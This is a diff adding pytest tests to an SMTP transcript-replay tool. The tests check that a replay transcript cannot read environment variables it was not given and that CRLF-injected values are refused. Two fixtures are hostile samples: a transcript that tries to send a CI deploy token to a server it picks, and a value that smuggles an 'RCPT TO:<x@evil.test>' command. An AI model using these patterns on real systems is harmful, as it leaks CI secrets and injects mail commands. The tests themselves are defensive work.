@@ -96,3 +96,85 @@ def test_a_credential_is_not_sent_when_the_server_did_not_ask(tmp_path: Path) ->
     assert status == 1
     assert b64(PASSWORD).encode() not in server.clear
     assert b64(PASSWORD) not in out + err
+
+
+# --- values from the environment ---------------------------------------------------
+
+TOKEN = "glpat-deploy-token-0123456789"
+
+
+def _token_transcript(tmp_path: Path, port: int) -> Path:
+    path = tmp_path / "exfiltrate.smtp"
+    path.write_text(
+        f"> telnet 127.0.0.1 {port}\n220\n> EHLO ${{CI_DEPLOY_TOKEN}}\n250\n> QUIT\n221\n",
+        encoding="utf-8",
+    )
+    return path
+
+
+async def _accept_all(peer: Peer) -> None:
+    await peer.send(b"220 collector.test ESMTP\r\n")
+    while (await peer.command()).upper() != "QUIT":
+        await peer.send(b"250 ok\r\n")
+    await peer.send(b"221 bye\r\n")
+
+
+def test_a_transcript_cannot_read_environment_variables_it_was_not_given(
+    tmp_path: Path,
+) -> None:
+    """A transcript chooses its own server: if ``${NAME}`` fell back to any environment
+    variable, a shared transcript could send a CI secret to a host of its choosing
+    (CWE-526). Nothing is sent, the error says how to pass the value (exit 2)."""
+    with HostileServer(_accept_all) as server:
+        transcript = _token_transcript(tmp_path, server.port)
+        out, err, status = run_cli(
+            "replay", str(transcript), environ={"NO_COLOR": "1", "CI_DEPLOY_TOKEN": TOKEN}
+        )
+    assert status == 2, out + err
+    assert server.peers == []
+    assert err == (
+        f"smtpshell replay: {transcript}:3: no value for ${{CI_DEPLOY_TOKEN}} (line 3); "
+        "pass --var CI_DEPLOY_TOKEN=... or --env CI_DEPLOY_TOKEN\n"
+    )
+    assert TOKEN not in out + err
+
+
+def test_env_names_the_environment_variables_a_transcript_may_use(tmp_path: Path) -> None:
+    """The allow-list: ``--env NAME`` hands over exactly that variable, nothing else."""
+    with HostileServer(_accept_all) as server:
+        transcript = _token_transcript(tmp_path, server.port)
+        out, err, status = run_cli(
+            "replay", str(transcript), "--env", "CI_DEPLOY_TOKEN",
+            environ={"NO_COLOR": "1", "CI_DEPLOY_TOKEN": TOKEN, "OTHER_SECRET": "x"},
+        )  # fmt: skip
+        server.wait_finished()
+    assert status == 0, out + err
+    assert server.clear == f"EHLO {TOKEN}\r\nQUIT\r\n".encode()
+
+
+@pytest.mark.parametrize(
+    ("args", "environ", "message"),
+    [
+        (["--env", "NOT_SET"], {}, "--env NOT_SET: no such environment variable"),
+        (["--env", "1BAD"], {}, "--env wants a NAME (letters, digits, _), not '1BAD'"),
+        (
+            ["--env", "CI_DEPLOY_TOKEN"],
+            {"CI_DEPLOY_TOKEN": "a\r\nRCPT TO:<x@evil.test>"},
+            "--env CI_DEPLOY_TOKEN: the value contains a control character",
+        ),
+    ],
+)
+def test_env_problems_are_one_line_before_connecting(
+    tmp_path: Path, args: list[str], environ: dict[str, str], message: str
+) -> None:
+    """Bad input gets one line and exit 2 before anything is sent; a value that could
+    smuggle a second command (CRLF, CVE-2023-51764-style) is never echoed."""
+    with HostileServer(_accept_all) as server:
+        transcript = _token_transcript(tmp_path, server.port)
+        _out, err, status = run_cli(
+            "replay", str(transcript), *args, environ={"NO_COLOR": "1", **environ}
+        )
+    assert status == 2
+    assert server.peers == []
+    assert err.count("\n") == 1 and message in err, err
+    assert "RCPT" not in err
